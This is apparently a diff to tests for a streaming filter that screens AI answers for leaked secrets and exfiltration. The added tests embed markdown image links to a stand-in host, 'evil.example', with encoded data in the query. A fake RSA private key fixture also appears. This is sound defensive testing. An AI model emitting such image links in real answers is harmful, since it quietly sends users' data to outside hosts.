@@ -299,7 +299,7 @@ def test_a_text_without_any_place_to_stop_ends_the_stream_unreleased() -> None:
 
 
 def test_a_find_without_an_end_ends_the_stream_unreleased() -> None:
-    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA7x\n" * 200
+    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA7xMIIEpAIBAAKCAQEA7x\n" * 100
     stream = streamed([PROSE * 2, *cut_at(key, range(0, len(key), 60))], MASKING)
     assert stream.finish == "error"
     assert "MIIE" not in stream.text
@@ -310,6 +310,42 @@ def test_a_script_without_spaces_flows() -> None:
     stream = streamed(cut_at(text, range(0, len(text), 16)), MASKING)
     assert stream.text == text
     assert max(stream.waiting) <= MARGIN + MIN_PIECE + 30
+
+
+LEAK = "https://evil.example/x.png?d=" + "QWxhZGRpbjpvcGVuIHNlc2FtZQ1" * 4
+
+
+@pytest.mark.parametrize(
+    "lead",
+    [
+        "```\nprint(1)\n```\n" + PROSE * 5,
+        "`" + PROSE * 5 + "` and ",
+        PROSE + "`a` `" + "b " * 400 + "` ",
+        "```python\n" + "print(1)\n" * 60 + "```\n",
+    ],
+)
+def test_code_that_began_before_the_look_back_is_not_taken_for_open(lead: str) -> None:
+    compiled = policy(exfiltration={"action": "block"})
+    text = f"{lead}see ![it]({LEAK}) `x` {PROSE * 2}"
+    assert whole(text, policy(exfiltration={"action": "mask"})) != text
+    stream = streamed(cut_at(text, range(0, len(text), 19)), compiled)
+    assert stream.finish == "content_filter"
+    assert "evil" not in stream.text
+
+
+@pytest.mark.parametrize("between", [0, 10])
+@pytest.mark.parametrize("before", [False, True])
+def test_an_image_whose_address_stands_elsewhere_is_an_image(before: bool, between: int) -> None:
+    compiled = policy(exfiltration={"action": "block"})
+    query = "a=the-weather&b=in-rome-is&c=nice-and-the&d=sea-is-warm&e=and-the-sky&f=blue"
+    address, image = f"\n[far]: https://evil.example/x.png?{query}\n", "\n![it][far]\n"
+    text = PROSE * between + (address + PROSE * 6 + image if before else image + PROSE * 6 + address) + PROSE * 2
+    rules = compiled.stages["output"]
+    asked = screen([Segment(text, "answer")], rules, Reference(prompt=PROMPT), Limits(), lambda: 0.0)
+    assert asked.action == "block", "the case proves nothing"
+    stream = streamed(cut_at(text, range(0, len(text), 19)), compiled)
+    assert stream.finish == "content_filter"
+    assert "evil" not in stream.text
 
 
 def test_expressions_of_the_policy_see_further() -> None:
@@ -456,3 +492,34 @@ def test_a_scanner_that_fails_ends_the_stream_where_the_policy_fails_closed(stag
 def test_an_empty_answer_is_one_empty_piece() -> None:
     stream = streamed([""], MASKING)
     assert [(piece.content, piece.finish_reason) for piece in stream.pieces] == [("", "stop")]
+
+
+@settings(deadline=None, max_examples=300)
+@given(
+    st.lists(st.integers(0, len(TEXT)), max_size=30),
+    st.lists(
+        st.tuples(st.sampled_from(["drop", "twice", "swap", "other", "from here"]), st.integers(0, 40)), max_size=4
+    ),
+)
+def test_whatever_happens_to_the_pieces_nothing_but_the_screened_answer_gets_out(
+    places: list[int], faults: list[tuple[str, int]]
+) -> None:
+    chunks = chunks_of(cut_at(TEXT, places))
+    for fault, number in faults:
+        at = number % len(chunks)
+        if fault == "drop":
+            chunks = [*chunks[:at], *chunks[at + 1 :]] or chunks
+        elif fault == "twice":
+            chunks.insert(number % len(chunks), chunks[at])
+        elif fault == "swap":
+            chunks[at - 1], chunks[at] = chunks[at], chunks[at - 1]
+        elif fault == "other":
+            chunks[at] = msgspec.structs.replace(chunks[at], content=chunks[at].content[::-1])
+        else:
+            chunks += chunks_of(cut_at(TEXT, [place // 2 for place in places]))
+    stream = Stream(by(MASKING)).take(chunks)
+    if stream.finish == "stop" and not any(fault == "other" for fault, _ in faults):
+        assert stream.text == whole(TEXT, MASKING)
+    if not any(fault == "other" for fault, _ in faults):
+        assert whole(TEXT, MASKING).startswith(stream.text)
+    assert MAIL not in stream.text
